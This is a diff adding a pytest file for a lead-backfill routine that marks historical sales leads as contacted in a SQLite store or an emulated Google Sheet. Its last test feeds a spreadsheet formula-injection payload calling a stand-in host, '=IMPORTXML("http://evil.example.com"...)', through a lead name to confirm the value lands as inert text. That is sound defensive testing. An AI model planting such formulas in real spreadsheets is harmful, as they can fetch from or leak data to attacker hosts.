@@ -0,0 +1,143 @@
+"""Tests for the historical-lead backfill — src.stage0.backfill + update_rows()."""
+
+from __future__ import annotations
+
+import csv
+from datetime import datetime, timedelta, timezone
+
+import pytest
+
+from benchmarks.sheets_emulator import SheetsEmulator
+from src.integrations.meta_export import iter_meta_leads
+from src.stage0.backfill import PRE_CONTACTED_STATUS, run_backfill
+from src.stage0.followup import WARSAW_TZ
+from src.stage0.process import run_followups
+from src.stage0.sharding import CLAIMED, IN_DOUBT_STATUS, SENDING, Lease
+from src.storage.local import LocalSheetsClient
+from src.storage.sheets import INPUT_HEADERS, STATUS_HEADERS, SheetsClient
+
+NOW = datetime(2025, 3, 14, 10, 0, tzinfo=WARSAW_TZ)
+SENT_AT = "2025-03-01 12:00"
+
+INPUT = [
+    ["Anna", "anna@example.com", ""],
+    ["Jan", "jan@example.com", ""],
+    ["Ewa", "ewa@example.com", ""],
+    ["Olga", "olga@example.com", ""],
+]
+STATUS = [
+    ["Anna", "anna@example.com", "", "", "", "", ""],
+    ["Jan", "jan@example.com", "", "ERROR: 421", "", "", ""],
+    ["Ewa", "ewa@example.com", "2025-03-10 09:00", "SENT", "2025-03-13 09:00", "YES", ""],
+]
+
+
+@pytest.fixture
+def store(tmp_path):
+    client = LocalSheetsClient(tmp_path / "leads.sqlite3")
+    client.append_input_rows(INPUT)
+    client.append_status_rows(STATUS)
+    yield client
+    client.close()
+
+
+class TestLocalStore:
+    def test_marks_every_uncontacted_lead(self, store):
+        report = run_backfill(store, sent_at=SENT_AT, now=NOW)
+
+        rows = {r["Email"]: r for r in store.read_status_rows()}
+        assert (report.status_rows_appended, report.status_rows_updated, report.already_contacted) == (1, 2, 1)
+        for email in ("anna@example.com", "jan@example.com", "olga@example.com"):
+            assert (rows[email]["Email wysłany"], rows[email]["Status emaila"]) == (SENT_AT, PRE_CONTACTED_STATUS)
+            assert (rows[email]["Follow-up od"], rows[email]["Wymaga follow-upu"]) == ("2025-03-04 12:00", "YES")
+        assert rows["ewa@example.com"]["Email wysłany"] == "2025-03-10 09:00"
+        assert store.get_new_leads() == []
+
+    def test_rows_held_by_a_sender_are_left_alone(self, store):
+        expiry = datetime.now(timezone.utc) + timedelta(minutes=10)
+        held = [Lease(CLAIMED, "intake-1", expiry).format(), Lease(SENDING, "w2", expiry).format(), IN_DOUBT_STATUS]
+        store.append_input_rows([[f"Held {i}", f"held{i}@example.com", ""] for i in range(3)])
+        store.append_status_rows([[f"Held {i}", f"held{i}@example.com", "", s, "", "", ""] for i, s in enumerate(held)])
+
+        report = run_backfill(store, sent_at=SENT_AT, now=NOW)
+
+        assert (report.status_rows_updated, report.leased) == (2, 3)
+        rows = [r for r in store.read_status_rows() if r["Email"].startswith("held")]
+        assert [(r["Email wysłany"], r["Status emaila"]) for r in rows] == [("", s) for s in held]
+
+    def test_follow_up_pass_has_nothing_to_rewrite(self, store):
+        run_backfill(store, sent_at=SENT_AT, now=NOW)
+
+        assert run_followups(store, now=NOW).rows_updated == 0
+
+    def test_clears_the_follow_up_schedule(self, store, tmp_path):
+        path = tmp_path / "followup.json"
+        run_followups(store, now=NOW, schedule_path=path)
+
+        run_backfill(store, sent_at=SENT_AT, now=NOW, dry_run=True, schedule_path=path)
+        assert path.exists()
+        run_backfill(store, sent_at=SENT_AT, now=NOW, schedule_path=path)
+        assert not path.exists()
+        assert run_followups(store, now=NOW, schedule_path=path).skipped is False
+
+    def test_leads_from_a_file_are_added_to_the_input_tab(self, store, tmp_path):
+        path = tmp_path / "historical.csv"
+        with path.open("w", newline="", encoding="utf-8") as f:
+            writer = csv.writer(f)
+            writer.writerow(INPUT_HEADERS)
+            writer.writerows([["Piotr", "Piotr@Example.com", "600100200"], ["Anna", "anna@example.com", ""]])
+
+        report = run_backfill(store, sent_at=SENT_AT, leads=iter_meta_leads(path), now=NOW)
+
+        assert (report.leads_read, report.input_rows_appended, report.status_rows_appended) == (2, 1, 1)
+        assert store.read_input_rows()[-1] == {
+            "Imię i nazwisko / Firma": "Piotr", "Email": "piotr@example.com", "Telefon dodatkowy": "600100200",
+        }
+        assert [r["Email"] for r in store.get_new_leads()] == ["jan@example.com", "olga@example.com"]  # not in the file
+
+    def test_dry_run_and_bad_timestamp(self, store):
+        before = store.read_status_rows()
+
+        assert run_backfill(store, sent_at=SENT_AT, now=NOW, dry_run=True).status_rows_updated == 2
+        assert store.read_status_rows() == before
+        with pytest.raises(ValueError):
+            run_backfill(store, sent_at="01.03.2025")
+
+    def test_formula_mode_leaves_the_flag_to_the_sheet(self, store):
+        run_backfill(store, sent_at=SENT_AT, now=NOW, formula=True)
+
+        assert {r["Wymaga follow-upu"] for r in store.read_status_rows() if r["Email"] != "ewa@example.com"} == {""}
+
+
+def test_sheets_cost_is_a_few_calls():
+    leads = [[f"Lead {i}", f"lead{i}@example.com", ""] for i in range(1500)]
+    with SheetsEmulator() as emu:
+        emu.add_spreadsheet("sheet", {
+            "input": [list(INPUT_HEADERS), *leads],
+            "status": [list(STATUS_HEADERS), *([row[0], row[1], "", "", "", "", ""] for row in leads[:1200])],
+        })
+        sheets = SheetsClient("", "sheet", input_tab="input", status_tab="status", gspread_client=emu.gspread_client())
+        emu.reset_stats()
+
+        report = run_backfill(sheets, sent_at=SENT_AT, now=NOW)
+
+        assert (report.status_rows_appended, report.status_rows_updated) == (300, 1200)
+        requests = emu.stats()["requests"]
+        assert (requests["values.append"], requests["values.batchUpdate"]) == (1, 2)
+        assert sheets.get_new_leads() == []
+        assert emu.values("sheet", "status")[1][2:6] == [SENT_AT, PRE_CONTACTED_STATUS, "2025-03-04 12:00", "YES"]
+
+
+def test_formula_like_names_land_as_text(tmp_path):
+    path = tmp_path / "historical.csv"
+    with path.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([INPUT_HEADERS, ['=IMPORTXML("http://evil.example.com", "//a")', "x@example.com", ""]])
+    with SheetsEmulator() as emu:
+        emu.add_spreadsheet("sheet", {"input": [list(INPUT_HEADERS)], "status": [list(STATUS_HEADERS)]})
+        sheets = SheetsClient("", "sheet", input_tab="input", status_tab="status", gspread_client=emu.gspread_client())
+
+        run_backfill(sheets, sent_at=SENT_AT, leads=iter_meta_leads(path), now=NOW)
+
+        row = emu.values("sheet", "status")[1]
+        assert type(row[0]) is str and row[0].startswith("=IMPORTXML")
+        assert row[2:4] == [SENT_AT, PRE_CONTACTED_STATUS]